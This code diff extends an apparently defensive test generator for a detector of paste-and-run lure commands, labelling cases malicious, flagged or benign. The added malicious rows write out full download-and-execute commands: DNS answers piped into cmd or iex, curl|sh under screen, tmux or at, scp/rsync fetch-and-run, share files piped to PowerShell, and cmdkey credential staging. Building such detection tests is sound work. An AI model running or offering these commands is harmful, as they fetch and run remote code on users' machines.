@@ -34,6 +34,18 @@ Techniques (each lure also bare, `-bare`: no page, target unknown, expected `fla
   twin expects `not_flagged`);
 - `prefix-then-stranger`: a stranger's script run after an innocent first command
   (xcode-select --install && …), the same as alone;
+- `dns-answer`: a name server's answer (an A lookup's Name: line, not only TXT) filtered and
+  handed to cmd or PowerShell, or looped over by for /f; Resolve-DnsName's name into iex;
+- `detached-run`: a download-and-run left running in a detached screen or tmux session, under
+  setsid, or handed to at(1);
+- `other-downloader`: aria2c, axel, lwp-download or wget2 saving a file a shell runs; a file
+  saved under ~ made runnable and started;
+- `copy-unix`: a file with no extension brought by scp or rsync:// and started by a shell or
+  by its path;
+- `share-text-run`: a text file on another computer's share (or another computer's answer
+  over ssh) run by cmd or PowerShell;
+- `saved-login`: cmdkey storing a password for a server on the internet, then Remote Desktop
+  or a network drive to it;
 """
 
 from __future__ import annotations
@@ -410,6 +422,112 @@ def prefix_then_stranger() -> list[Row]:
     return rows
 
 
+# -- 9. our own variants of 2025-2026 reports, probed bare and in context --------------------
+def dns_answer() -> list[Row]:
+    t = "dns-answer"
+    ns = "198.51.100.53"
+    rows = [
+        f'cmd /c nslookup -type=A cfg.lumen-gate.test {ns} | findstr "^Name:" | cmd',
+        f'cmd /c "nslookup -type=A cdn.lumen-gate.test {ns} | findstr "^Name:" | for /f "tokens=1,*" %a in (\'more\') do @echo %b" | cmd',
+        f'cmd /c "for /f "skip=4 tokens=2" %i in (\'nslookup cfg.lumen-gate.test {ns}\') do powershell -nop -c %i"',
+        f'cmd /c nslookup stage.lumen-gate.test {ns} | find "Name" | powershell -',
+        f'powershell -c "(Resolve-DnsName cfg.lumen-gate.test -Server {ns}).NameHost | iex"',
+        f'powershell -w h -c "iex (Resolve-DnsName k.lumen-gate.test -Server {ns} -Type TXT).Strings"',
+    ]
+    return [(t, text, "malicious", "windows", "run_dialog", CAPTCHA) for text in rows] + [
+        (t, text, "malicious", "windows", "terminal", MEET) for text in rows[:3]
+    ]
+
+
+def detached_run() -> list[Row]:
+    t = "detached-run"
+    u = "https://cdn.lumen-gate.test/p"
+    rows = [
+        f"screen -dmS upd bash -c 'curl -s {u} | sh'",
+        f"tmux new -d 'curl -s {u} | sh'",
+        f'tmux new-session -d -s svc "wget -qO- {u} | bash"',
+        f"setsid -f sh -c 'wget -qO- {u} | sh'",
+        f"at now <<< 'curl -s {u} | sh'",
+        f"echo 'curl -s {u} | sh' | at now + 1 minute",
+    ]
+    software = "https://docs.quietfox.example/linux/agent"
+    return [(t, x, "malicious", "linux", "terminal", software) for x in rows] + [
+        (t, x, "malicious", "linux", "terminal", FORUM) for x in rows
+    ]
+
+
+def other_downloader() -> list[Row]:
+    t = "other-downloader"
+    u = "https://cdn.lumen-gate.test/m"
+    rows = [
+        f"lwp-download {u} /tmp/p && sh /tmp/p",
+        f"aria2c -d /tmp -o p {u} && bash /tmp/p",
+        f"axel -q -o /tmp/p {u}; sh /tmp/p",
+        f"wget2 -q -O /tmp/p {u} && bash /tmp/p",
+        f"curl -fsSL {u} -o ~/Library/Application\\ Support/.helper && chmod +x ~/Library/Application\\ Support/.helper && ~/Library/Application\\ Support/.helper &",
+        f"curl -fsSL {u} -o ~/.local/bin/updater && chmod 755 ~/.local/bin/updater && ~/.local/bin/updater",
+    ]
+    return [(t, x, "malicious", "linux", "terminal", SHOP) for x in rows]
+
+
+def copy_unix() -> list[Row]:
+    t = "copy-unix"
+    rows = [
+        "scp guest@198.51.100.9:/srv/p /tmp/p && sh /tmp/p",
+        "scp -P 2222 guest@files.lumen-gate.test:agent /tmp/agent; chmod +x /tmp/agent; /tmp/agent",
+        "rsync -az rsync://198.51.100.9/pub/p /tmp/p && /tmp/p",
+        "rsync -q guest@198.51.100.9:/srv/run /tmp/run && bash /tmp/run",
+    ]
+    # a terminal from a page with no address to weigh against it: a warning (the Run box's
+    # and a lure trait's rules make the other contexts a block)
+    return [(t, x, "flagged", "linux", "terminal", SHOP) for x in rows]
+
+
+def share_text_run() -> list[Row]:
+    t = "share-text-run"
+    rows = [
+        "cmd /c type \\\\198.51.100.44\\s\\p.txt | cmd",
+        "cmd /k < \\\\files.lumen-gate.test@SSL\\d\\p.txt",
+        "powershell Get-Content \\\\198.51.100.44\\s\\p.txt | powershell -",
+        'powershell -c "iex (gc \\\\files.lumen-gate.test@SSL\\d\\p.txt -Raw)"',
+        'ssh guest@198.51.100.9 -p 2222 "cat run.ps1" | powershell -',
+        "ssh -o StrictHostKeyChecking=no guest@198.51.100.9 | cmd",
+    ]
+    return [(t, x, "malicious", "windows", "run_dialog", CAPTCHA) for x in rows]
+
+
+def saved_login() -> list[Row]:
+    t = "saved-login"
+    rows = [
+        "cmdkey /generic:TERMSRV/198.51.100.44 /user:support /pass:Welcome1 & mstsc /v:198.51.100.44",
+        "cmd /c cmdkey /add:198.51.100.44 /user:guest /pass:guest && net use Z: \\\\198.51.100.44\\s",
+        "cmdkey /add:files.lumen-gate.test /user:u /pass:p & explorer \\\\files.lumen-gate.test\\share",
+    ]
+    return [(t, x, "malicious", "windows", "run_dialog", MEET) for x in rows]
+
+
+def probed_benign() -> list[Row]:
+    ok = "ok-probed"
+    return [
+        (ok, "nslookup example.org 8.8.8.8 | findstr Address", "not_flagged", "windows", "terminal", DOCS),
+        (ok, "nslookup -q=txt _dmarc.example.org", "not_flagged", "windows", "terminal", DOCS),
+        (ok, 'for /f "tokens=2" %a in (\'nslookup example.org ^| findstr Address\') do @echo %a', "not_flagged", "windows", "terminal", DOCS),
+        (ok, "Resolve-DnsName example.org | Select-Object Name, IPAddress", "not_flagged", "windows", "terminal", DOCS),
+        (ok, "screen -dmS mc java -Xmx2G -jar server.jar nogui", "not_flagged", "linux", "terminal", DOCS),
+        (ok, "tmux new -d -s build 'make -j4 2>&1 | tee build.log'", "not_flagged", "linux", "terminal", DOCS),
+        (ok, "echo 'systemctl restart nginx' | at 03:00", "not_flagged", "linux", "terminal", DOCS),
+        (ok, "aria2c -x4 https://releases.ubuntu.example/24.04/ubuntu-24.04-desktop-amd64.iso", "not_flagged", "linux", "terminal", DOCS),
+        (ok, "scp deploy@build01:/srv/artifacts/app.tar.gz . && tar xzf app.tar.gz", "not_flagged", "linux", "terminal", DOCS),
+        (ok, "rsync -az ./site/ deploy@web01.example.org:/var/www/site/", "not_flagged", "linux", "terminal", DOCS),
+        (ok, "type \\\\fileserver\\it\\readme.txt", "not_flagged", "windows", "terminal", DOCS),
+        (ok, "Get-Content \\\\fs01.corp.example.com\\logs\\app.log -Tail 50", "not_flagged", "windows", "terminal", DOCS),
+        (ok, "ssh deploy@web01.example.org 'sudo systemctl status nginx'", "not_flagged", "linux", "terminal", DOCS),
+        (ok, "cmdkey /list | findstr /i target", "not_flagged", "windows", "terminal", DOCS),
+        (ok, "cmdkey /add:fs01.corp.example /user:CORP\\me /pass & net use S: \\\\fs01.corp.example\\share", "not_flagged", "windows", "terminal", DOCS),
+        (ok, "curl -fsSL https://example.org/data.csv -o ~/Downloads/data.csv && wc -l ~/Downloads/data.csv", "not_flagged", "linux", "terminal", DOCS),
+    ]  # fmt: skip
+
+
 LURES = [
     copy_var_start,
     sh_cut_names,
@@ -419,6 +537,12 @@ LURES = [
     paste_keys,
     remote_assist,
     prefix_then_stranger,
+    dns_answer,
+    detached_run,
+    other_downloader,
+    copy_unix,
+    share_text_run,
+    saved_login,
 ]
 LOOKALIKES = [
     copy_var_start_benign,
@@ -428,6 +552,7 @@ LOOKALIKES = [
     ssh_key_in_benign,
     paste_keys_benign,
     remote_assist_benign,
+    probed_benign,
 ]
 
 
